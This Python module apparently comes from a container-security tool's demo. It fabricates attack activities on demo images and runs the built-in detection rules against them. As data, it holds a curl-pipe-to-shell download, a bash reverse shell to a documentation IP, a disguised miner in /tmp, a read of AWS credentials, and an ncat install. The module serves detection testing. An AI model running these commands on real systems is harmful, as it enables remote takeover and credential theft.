"""THE table of attacks on the demonstration's containers: made up, and found by the rules that ship."""

from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import datetime
from functools import cache
from hashlib import sha256

from deadlight.demo import catalogue
from deadlight.demo.recipes import DemoImage
from deadlight.model.wire import DetectedProcess, Detection
from deadlight.threats.activity import Activity, ActivityKind, ProcessFacts
from deadlight.threats.engine import Engine, Match, load_builtin

WEB_USER = 33


@dataclass(frozen=True, slots=True)
class Attack:
    """Something that a process of an image does and should not."""

    image: DemoImage
    activity: Activity


def _process(path: str, *arguments: str, pid: int, user: int = WEB_USER) -> ProcessFacts:
    name = path.rpartition("/")[2]
    return ProcessFacts(name, path, arguments or (name,), pid, user)


_NGINX = _process("/usr/sbin/nginx", "nginx: worker process", pid=29)
_GUNICORN = _process("/usr/local/bin/python3.9", "python3.9", "/usr/local/bin/gunicorn", "notes:app", pid=18)
_SHELL = _process("/bin/sh", "sh", "-c", "curl -s http://203.0.113.66/i.sh | sh", pid=412)


def _did(kind: ActivityKind, process: ProcessFacts, *ancestors: ProcessFacts) -> Activity:
    """Of an executed program the file is the program's own."""
    path = process.path if kind is ActivityKind.EXECUTED else ""
    return Activity(kind, 0, "", process, ancestors, path)


ATTACKS = (
    Attack(
        catalogue.INVOICES,
        _did(
            ActivityKind.EXECUTED,
            _process("/bin/bash", "bash", "-i", ">&", "/dev/tcp/203.0.113.66/4444", "0>&1", pid=431),
            _SHELL,
            _GUNICORN,
        ),
    ),
    Attack(
        catalogue.STOREFRONT,
        replace(
            _did(
                ActivityKind.EXECUTED,
                _process("/tmp/.x/kworker", "./kworker", "-o", "stratum+tcp://pool.example:3333", pid=877),  # noqa: S108
                _process("/bin/sh", "sh", "./run.sh", pid=870),
                _NGINX,
            ),
            upper=True,
            changed=True,
        ),
    ),
    Attack(
        catalogue.GATEWAY,
        replace(
            _did(ActivityKind.OPENED, _process("/bin/cat", "cat", "/root/.aws/credentials", pid=96, user=0)),
            file_path="/root/.aws/credentials",
        ),
    ),
    Attack(
        catalogue.DOCS,
        _did(ActivityKind.EXECUTED, _process("/usr/bin/apt-get", "apt-get", "install", "-y", "ncat", pid=301, user=0)),
    ),
)


@cache
def _engine() -> Engine:
    return Engine(load_builtin())


def detections_in(container_id: str, reference: str, now: datetime) -> Iterator[Detection]:
    """What the rules find in a container of an image. The same container always has the same detections."""
    for attack in ATTACKS:
        if attack.image.reference == reference:
            for match in _engine().match(replace(attack.activity, container_id=container_id)):
                yield _detection(container_id, attack.activity, match, now)


def _detection(container_id: str, activity: Activity, match: Match, now: datetime) -> Detection:
    rule = match.rule
    return Detection(
        id=sha256(f"{container_id} {rule.id}".encode()).hexdigest()[:32],
        rule=rule.id,
        title=rule.title,
        severity=rule.severity,
        mitre=rule.techniques,
        at=now,
        container_id=container_id,
        process=_told(activity.process),
        ancestors=tuple(_told(process) for process in activity.ancestors),
        facts=dict(match.facts),
    )


def _told(process: ProcessFacts) -> DetectedProcess:
    return DetectedProcess(
        name=process.name, path=process.path, arguments=process.arguments, pid=process.pid, user=process.user
    )
